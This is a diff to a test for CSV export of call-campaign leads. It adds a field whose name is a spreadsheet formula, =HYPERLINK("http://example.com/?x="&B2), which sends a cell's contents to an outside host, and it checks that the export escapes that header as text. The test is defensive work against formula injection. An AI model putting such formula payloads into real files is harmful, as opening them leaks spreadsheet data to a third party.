@@ -42,7 +42,8 @@ async function seed() {
   const [ann, bob, eve] = await insertLeads(pool, spring.id, [
     { externalId: 'CRM-1', firstName: 'Ann', lastName: 'Smith', phones: ['+12125550100', '+13125550101'], grade: 'A', postalCode: '10001',
       timezone: 'America/New_York', fields: { industry: 'retail', status: 'gold', seats: 12 } },
-    { firstName: '=HYPERLINK("http://example.com")', lastName: 'Jones', phones: ['+12125550102'], status: 'exhausted', fields: { industry: 'software' } },
+    { firstName: '=HYPERLINK("http://example.com")', lastName: 'Jones', phones: ['+12125550102'], status: 'exhausted',
+      fields: { industry: 'software', '=HYPERLINK("http://example.com/?x="&B2)': 'x' } },
     { firstName: 'Eve', phones: ['+12125550103'], status: 'retry', nextDialAt: new Date('2030-01-08T15:00:00Z') },
   ]) as [string, string, string];
   await insertLeads(pool, autumn.id, [{ firstName: 'Other', phones: ['+12125550199'] }]);
@@ -69,7 +70,8 @@ describe("a list's leads as CSV", () => {
       'lead_id', 'campaign', 'list', 'external_id', 'first_name', 'last_name', 'phone', 'other_phones', 'status', 'stage', 'grade', 'priority', 'timezone',
       'postal_code', 'dials', 'last_outcome', 'last_called_at', 'next_dial_at', 'last_disposition', 'last_disposition_notes', 'last_disposition_at',
       // Loaded fields, sorted; one named like a standard column is kept apart from it.
-      'industry', 'seats', 'field_status',
+      // A field named like a formula (the mapping came with the list) heads its column as text.
+      '\'=HYPERLINK("http://example.com/?x="&B2)', 'industry', 'seats', 'field_status',
     ]);
     expect(rows.map((row) => row.lead_id)).toEqual([ann, bob, eve]);
     expect(rows[0]).toMatchObject({
